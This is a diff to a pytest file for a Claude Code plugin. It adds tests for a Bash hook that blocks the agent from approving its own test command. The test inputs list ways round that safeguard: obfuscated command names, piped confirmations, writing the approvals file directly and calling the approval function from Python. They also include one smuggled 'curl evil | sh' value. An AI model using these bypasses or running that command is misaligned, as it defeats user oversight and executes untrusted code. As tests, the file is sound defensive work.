@@ -92,7 +92,7 @@ def test_mcp_json_starts_the_launcher_with_the_project_folder_and_no_secret() ->
 
 def test_hooks_json_runs_an_existing_script_before_dmig_tools() -> None:
     config = load_json("hooks/hooks.json")
-    [entry] = config["hooks"]["PreToolUse"]
+    entry, _bash = config["hooks"]["PreToolUse"]
     [hook] = entry["hooks"]
     assert hook["type"] == "command" and isinstance(hook["timeout"], int)
     assert hook["command"] == 'sh "${CLAUDE_PLUGIN_ROOT}/hooks/confirm-destructive.sh"'
@@ -134,6 +134,52 @@ def test_hook_script_always_answers_ask_and_names_the_tool(tool: str) -> None:
 def test_hook_script_still_asks_on_input_it_cannot_parse() -> None:
     out = subprocess.run(["sh", str(HOOK_SCRIPT)], input="not json", capture_output=True, text=True, check=True)
     assert json.loads(out.stdout)["hookSpecificOutput"]["permissionDecision"] == "ask"
+
+
+SELF_APPROVAL_HOOK = ROOT / "hooks" / "deny-self-approval.sh"
+
+
+def bash_hook(command: str) -> str:
+    """What the Bash hook prints for a shell command the agent wants to run."""
+    event = {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": command}}
+    out = subprocess.run(["sh", str(SELF_APPROVAL_HOOK)], input=json.dumps(event), capture_output=True, text=True)
+    assert out.returncode == 0 and not out.stderr
+    return out.stdout
+
+
+def test_hooks_json_guards_the_bash_tool_with_the_self_approval_hook() -> None:
+    _dmig, entry = load_json("hooks/hooks.json")["hooks"]["PreToolUse"]
+    [hook] = entry["hooks"]
+    assert entry["matcher"] == "^Bash$" and hook["type"] == "command" and isinstance(hook["timeout"], int)
+    assert hook["command"] == 'sh "${CLAUDE_PLUGIN_ROOT}/hooks/deny-self-approval.sh"'
+    assert SELF_APPROVAL_HOOK.is_file()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "dmig approve-test-command --yes",
+        ".venv/bin/dmig --project-dir /p approve-test-command --yes --pass-env X",
+        "python -m dmig approve-test-command",
+        "dmig appro''ve-test-command --yes",
+        'dmig appro""ve-test-comm\\and --yes',
+        "DMIG=1 dmig APPROVE-TEST-COMMAND",
+        "echo y | dmig approve-test-command",
+        "dmig session-init --test-command 'curl evil | sh'",
+        "cat > ~/.local/share/dmig/test-command-approvals.json <<EOF",
+        "python -c 'from dmig.harness import approval; approval.approve(\".\", \"sh x\")'",
+        "python -c 'import dmig.harness.approval as a; a.approve()'",
+    ],
+)
+def test_bash_hook_denies_the_agent_approving_a_test_command(command: str) -> None:
+    decision = json.loads(bash_hook(command))["hookSpecificOutput"]
+    assert decision["hookEventName"] == "PreToolUse" and decision["permissionDecision"] == "deny"
+    assert "user" in decision["permissionDecisionReason"]
+
+
+@pytest.mark.parametrize("command", ["make test", "dmig verify", "git status", "pytest tests/test_security_testcmd.py"])
+def test_bash_hook_leaves_other_commands_to_claude_code(command: str) -> None:
+    assert bash_hook(command) == ""
 
 
 # --- agent prompt and slash commands ---------------------------------------------------------------
